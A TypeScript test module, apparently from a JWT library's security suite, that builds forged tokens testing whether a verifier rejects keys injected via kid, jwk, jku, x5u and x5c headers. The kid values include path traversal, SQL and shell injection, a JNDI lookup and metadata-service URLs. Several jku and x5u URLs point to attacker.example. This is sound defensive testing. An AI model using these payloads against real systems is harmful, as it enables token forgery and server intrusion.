/** Headers that bring a key along, or say where to get one: `jwk`, `jku`, `x5u`, `x5c`, and words in `kid`. */
import { publicJwkOf } from '@mintmark/jwt'
import type { JsonValue } from '@mintmark/protocol'
import { strangerCertificate } from '../fixture-certificates.ts'
import { attackerKeys } from '../fixture-keys.ts'
import type { Overrides } from '../some.ts'
import { type AttackCase, type TokenAttack, tokenCases } from './attack-case.ts'
import type { AttackWorkshop } from './attack-workshop.ts'
import { hmacOf } from './corpus-signatures.ts'

const KIDS: readonly (readonly [name: string, kid: string, cve?: readonly string[]])[] = [
  ['path', '/dev/null'],
  ['path-traversal', '../../../../../../dev/null'],
  ['windows-path', '..\\..\\..\\windows\\win.ini'],
  ['file-url', 'file:///etc/passwd'],
  ['web-url', 'https://attacker.example/key.pem'],
  ['metadata-service', 'http://169.254.169.254/latest/meta-data/'],
  ['sql-union', "nobody' UNION SELECT 'secret' -- "],
  ['sql-always-true', "' OR '1'='1"],
  ['sql-drop', "x'; DROP TABLE keys; --"],
  ['ldap-filter', '*)(objectClass=*'],
  ['shell-pipe', '| /usr/bin/id'],
  ['shell-substitution', '$(id)'],
  ['shell-backticks', '`id`'],
  ['template', '{{7*7}}'],
  ['log-lookup', '$' + '{jndi:ldap://attacker.example/a}'],
  ['redis-command', 'x\r\nFLUSHALL\r\n'],
  ['nul', 'fixture-es256\0.pem'],
  ['proto', '__proto__'],
  ['constructor', 'constructor'],
  ['to-string', 'toString'],
  ['number-as-text', '0'],
  ['empty', ''],
  ['unknown', 'nobody', ['CVE-2026-48524']],
  ['huge', 'k'.repeat(2_900), ['CVE-2025-61920']],
]

const ADDRESSES: readonly (readonly [name: string, url: string])[] = [
  ['https', 'https://attacker.example/jwks.json'],
  ['http', 'http://attacker.example/jwks.json'],
  ['file', 'file:///tmp/jwks.json'],
  ['metadata-service', 'http://169.254.169.254/latest/meta-data/'],
  ['loopback', 'http://127.0.0.1:1/jwks.json'],
]

/** Cases of the class `key-injection`. */
export function keyInjection(workshop: AttackWorkshop): readonly AttackCase[] {
  return tokenCases('key-injection', [
    ...KIDS.map((kid) => unknownKid(workshop, kid)),
    ...nearKids(workshop),
    ...kidsOfOtherTypes(workshop),
    ...keysInHeaders(workshop),
    ...keySetsElsewhere(workshop),
    ...certificates(workshop),
    emptyFileAsSecret(workshop),
  ])
}

/** Signed by a key of the attacker, for a verifier that finds it wherever `kid` points. */
function unknownKid(
  workshop: AttackWorkshop,
  [name, kid, cve = []]: readonly [string, string, (readonly string[])?],
): TokenAttack {
  const why = 'A kid is compared with published ones and used for nothing else.'
  return [`kid-${name}`, 'unknown_key', why, forged(workshop, { kid }), cve]
}

function nearKids(workshop: AttackWorkshop): readonly TokenAttack[] {
  const { kid = '' } = workshop.key
  const why = 'A kid is compared octet by octet (RFC 7515 section 4.1.4).'
  const near: readonly (readonly [string, string])[] = [
    ['in-capitals', kid.toUpperCase()],
    ['before-space', `${kid} `],
    ['before-line-end', `${kid}\n`],
    ['shortened', kid.slice(0, -1)],
    ['lengthened', `${kid}0`],
  ]
  return near.map(([name, text]) => [
    `known-kid-${name}`,
    'unknown_key',
    why,
    workshop.token({ header: { kid: text } }),
  ])
}

function kidsOfOtherTypes(workshop: AttackWorkshop): readonly TokenAttack[] {
  const why = 'A kid is a text (RFC 7515 section 4.1.4); one that is not selects nothing.'
  const kids: readonly (readonly [string, JsonValue])[] = [
    ['number', 0],
    ['null', null],
    ['true', true],
    ['list', [workshop.key.kid ?? '']],
    ['object', { $ne: null }],
  ]
  return kids.map(([name, kid]) => [
    `kid-${name}`,
    'malformed_token',
    why,
    workshop.token({ header: { kid } }),
  ])
}

function keysInHeaders(workshop: AttackWorkshop): readonly TokenAttack[] {
  const jwk = { ...publicJwkOf(workshop.attackerKey) }
  const known = workshop.key.kid ?? ''
  const why = 'A key in the token vouches for nothing: whoever made the token made the key.'
  const cve = ['CVE-2018-0114']
  const secret = { kty: 'oct', k: Buffer.from('secret').toString('base64url'), alg: 'HS256' }
  return [
    ['jwk-under-its-own-kid', 'unknown_key', why, forged(workshop, { jwk }), cve],
    ['jwk-under-a-known-kid', 'bad_signature', why, forged(workshop, { jwk, kid: known }), cve],
    [
      'jwk-without-kid',
      'bad_signature',
      why,
      workshop.token({
        algorithm: 'EdDSA',
        key: attackerKeys.EdDSA,
        header: { jwk: { ...publicJwkOf(attackerKeys.EdDSA) }, kid: undefined },
      }),
      cve,
    ],
    [
      'jwk-that-calls-itself-known',
      'bad_signature',
      why,
      forged(workshop, { jwk: { ...jwk, kid: known }, kid: known }),
      cve,
    ],
    [
      'jwk-with-its-private-half',
      'unknown_key',
      why,
      forged(workshop, { jwk: { ...workshop.attackerKey } }),
      cve,
    ],
    [
      'symmetric-jwk',
      'algorithm_not_allowed',
      why,
      workshop.token({
        header: { alg: 'HS256', jwk: secret },
        sign: (input) => hmacOf('sha256', 'secret', input),
      }),
      cve,
    ],
    ['jwk-as-text', 'unknown_key', why, forged(workshop, { jwk: JSON.stringify(jwk) }), cve],
  ]
}

function keySetsElsewhere(workshop: AttackWorkshop): readonly TokenAttack[] {
  const { issuer } = workshop
  const why = 'Where keys are is configured or learnt from the issuer, never from a token.'
  const set = JSON.stringify({ keys: [publicJwkOf(workshop.attackerKey)] })
  const inline = `data:application/json;base64,${Buffer.from(set).toString('base64')}`
  const addresses: readonly (readonly [string, string])[] = [
    ...ADDRESSES,
    ['issuer-as-userinfo', `${issuer}@attacker.example/jwks.json`],
    ['issuer-as-prefix', `${issuer}.attacker.example/jwks.json`],
    ['issuer-with-redirect', `${issuer}/redirect?to=https://attacker.example/jwks.json`],
    ['data-url', inline],
  ]
  const jkus = addresses.map(
    ([name, jku]): TokenAttack => [`jku-${name}`, 'unknown_key', why, forged(workshop, { jku })],
  )
  const known = forged(workshop, {
    jku: 'https://attacker.example/jwks.json',
    kid: workshop.key.kid,
  })
  return [...jkus, ['jku-under-a-known-kid', 'bad_signature', why, known]]
}

function certificates(workshop: AttackWorkshop): readonly TokenAttack[] {
  const why = "A certificate in or behind a header is not the issuer's published key."
  const der = strangerCertificate.cert.replaceAll(/-----[A-Z ]+-----|\s/g, '')
  const headers: readonly (readonly [string, Overrides])[] = [
    ['x5u', { x5u: 'https://attacker.example/chain.pem' }],
    ['x5c', { x5c: [der] }],
    ['x5c-that-is-none', { x5c: ['AAAA', 'not base64!'] }],
    ['x5t', { 'x5t#S256': 'bwcK0esc3ACC3DB2Y5_lESsXE8o9ltc05O89jdN-dg2' }],
  ]
  return headers.map(([name, header]) => [name, 'unknown_key', why, forged(workshop, header)])
}

/** What many path traversals lead to: a file without content is an empty secret. */
function emptyFileAsSecret(workshop: AttackWorkshop): TokenAttack {
  const header = { alg: 'HS256', kid: '../../../../dev/null' }
  const token = workshop.token({ header, sign: (input) => hmacOf('sha256', '', input) })
  const why = 'An empty file is no key, and HMAC is no algorithm of an issuer with public keys.'
  return ['kid-empty-file-as-secret', 'algorithm_not_allowed', why, token]
}

function forged(workshop: AttackWorkshop, header: Overrides): string {
  return workshop.token({ key: workshop.attackerKey, header })
}
